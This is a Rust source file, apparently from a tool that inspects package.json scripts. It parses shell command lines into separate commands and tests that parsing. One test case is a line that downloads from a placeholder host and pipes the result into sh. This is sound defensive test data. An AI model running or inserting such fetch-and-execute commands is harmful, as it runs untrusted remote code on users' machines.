//! Shell command lines, as far as telling what they run needs: words, quotes, and what joins commands.

/// One command of a line.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Command {
    /// Variables set for it, `(name, value)`.
    pub variables: Vec<(String, String)>,
    /// The program and its arguments, unquoted.
    pub words: Vec<String>,
    /// Whether its input is another command's output.
    pub piped: bool,
}

/// No line of a package.json needs more.
const MOST: usize = 1000;

/// Splits a line into its commands: at `;`, `&`, `&&`, `|`, `||` and line ends, also inside `( )`, `{ }`, `$( )` and
/// backticks, since whatever stands there runs too. Iterative, and never fails: an open quote ends with the line.
pub fn commands(line: &str) -> Vec<Command> {
    let mut splitter = Splitter::default();
    let mut rest = line.chars().peekable();
    let mut quote = None;
    while let Some(c) = rest.next() {
        match (quote, c) {
            (None, '\'') => quote = Some('\''),
            (None, '"') => quote = Some('"'),
            (Some('\''), '\'') | (Some('"'), '"') => quote = None,
            (None, '\\') => match rest.next() {
                Some('\n') | None => continue,
                Some(next) => splitter.push(next),
            },
            // Inside double quotes a backslash protects only these; elsewhere it is itself, as in Windows paths.
            (Some('"'), '\\') if matches!(rest.peek(), Some('"' | '\\' | '$' | '`')) => {
                splitter.push(rest.next().unwrap_or_default());
            }
            (None | Some('"'), '$') if rest.peek() == Some(&'(') => {
                rest.next();
                splitter.inner(quote);
                quote = None;
                continue;
            }
            (None | Some('"'), '`') if splitter.in_backticks() => quote = splitter.outer(),
            (None | Some('"'), '`') => {
                splitter.inner_backticks(quote);
                quote = None;
                continue;
            }
            (None, ')') => quote = splitter.outer(),
            (None, '(' | ';' | '\n' | '&') => splitter.end(false),
            (None, '|') => {
                let or = rest.peek() == Some(&'|');
                if or {
                    rest.next();
                }
                splitter.end(!or);
            }
            (None, c) if c.is_whitespace() => splitter.word(),
            (None, '#') if !splitter.in_word => while rest.next_if(|&c| c != '\n').is_some() {},
            (_, c) => splitter.push(c),
        }
        if matches!(c, '\'' | '"') {
            splitter.in_word = true;
        }
    }
    splitter.end(false);
    splitter.done
}

#[derive(Default)]
struct Splitter {
    done: Vec<Command>,
    current: Command,
    text: String,
    in_word: bool,
    /// Commands around a substitution: the quote it stands in, and whether backticks opened it.
    outer: Vec<(Option<char>, bool, Command, String)>,
}

impl Splitter {
    fn push(&mut self, c: char) {
        self.text.push(c);
        self.in_word = true;
    }

    fn word(&mut self) {
        if !self.in_word {
            return;
        }
        self.in_word = false;
        let text = std::mem::take(&mut self.text);
        if self.current.words.is_empty()
            && let Some((name, value)) = text.split_once('=')
            && is_name(name)
        {
            self.current.variables.push((name.to_owned(), value.to_owned()));
            return;
        }
        // Braces group commands when they stand alone; redirections are no arguments.
        if !matches!(text.as_str(), "{" | "}" | "!" | "then" | "do" | "else") || !self.current.words.is_empty() {
            self.current.words.push(text);
        }
    }

    fn end(&mut self, pipe: bool) {
        self.word();
        let command = std::mem::take(&mut self.current);
        self.current.piped = pipe;
        if self.done.len() < MOST && !(command.words.is_empty() && command.variables.is_empty()) {
            self.done.push(command);
        }
    }

    fn inner(&mut self, quote: Option<char>) {
        self.outer.push((
            quote,
            false,
            std::mem::take(&mut self.current),
            std::mem::take(&mut self.text),
        ));
        self.in_word = false;
    }

    fn inner_backticks(&mut self, quote: Option<char>) {
        self.inner(quote);
        if let Some(last) = self.outer.last_mut() {
            last.1 = true;
        }
    }

    fn in_backticks(&self) -> bool {
        self.outer.last().is_some_and(|outer| outer.1)
    }

    /// Ends a substitution; what it yields is unknown, so the word around it gets a `$()` in its place.
    fn outer(&mut self) -> Option<char> {
        self.end(false);
        let (quote, _, command, text) = self.outer.pop()?;
        self.current = command;
        self.text = text + "$()";
        self.in_word = true;
        quote
    }
}

fn is_name(name: &str) -> bool {
    name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Commands as words joined by `·`, `|` before a piped one, variables as `NAME=value`.
    fn shown(line: &str) -> Vec<String> {
        let show = |command: Command| {
            let variables = command.variables.iter().map(|(name, value)| format!("{name}={value}"));
            let words: Vec<_> = variables.chain(command.words.iter().cloned()).collect();
            format!("{}{}", if command.piped { "|" } else { "" }, words.join("·"))
        };
        commands(line).into_iter().map(show).collect()
    }

    #[test]
    fn lines() {
        for (line, expected) in [
            ("node a.js", &["node·a.js"][..]),
            ("  node  'a b.js'  \"c d\" ", &["node·a b.js·c d"]),
            ("a && b || c; d & e\nf", &["a", "b", "c", "d", "e", "f"]),
            (
                "curl -s https://x.example.invalid/i | sh",
                &["curl·-s·https://x.example.invalid/i", "|sh"],
            ),
            ("NODE_ENV=x A=\"b c\" node a=b", &["NODE_ENV=x·A=b c·node·a=b"]),
            ("node -e \"require('./x')\"", &["node·-e·require('./x')"]),
            ("node -e \"a(\\\"b\\\")\"", &["node·-e·a(\"b\")"]),
            ("echo $(cat x | tr a b) y", &["cat·x", "|tr·a·b", "echo·$()·y"]),
            ("echo \"a `whoami` b\"", &["whoami", "echo·a $() b"]),
            ("(cd a && make) # comment", &["cd·a", "make"]),
            ("if [ -f x ]; then node y; fi", &["if·[·-f·x·]", "node·y", "fi"]),
            ("node a\\ b", &["node·a b"]),
            ("node \"C:\\x\\y.js\"", &["node·C:\\x\\y.js"]),
            ("a ''", &["a·"]),
            ("'open", &["open"]),
            ("", &[]),
            (")))", &[]),
            ("X=1", &["X=1"]),
        ] {
            assert_eq!(shown(line), expected, "{line}");
        }
    }

    #[test]
    fn hostile_lines_cost_linear_time() {
        for unit in ["$(", "`", "(", ")", "\"", "'", "a;", "|", "\\", "{ "] {
            assert!(commands(&unit.repeat(200_000)).len() <= MOST);
        }
    }
}
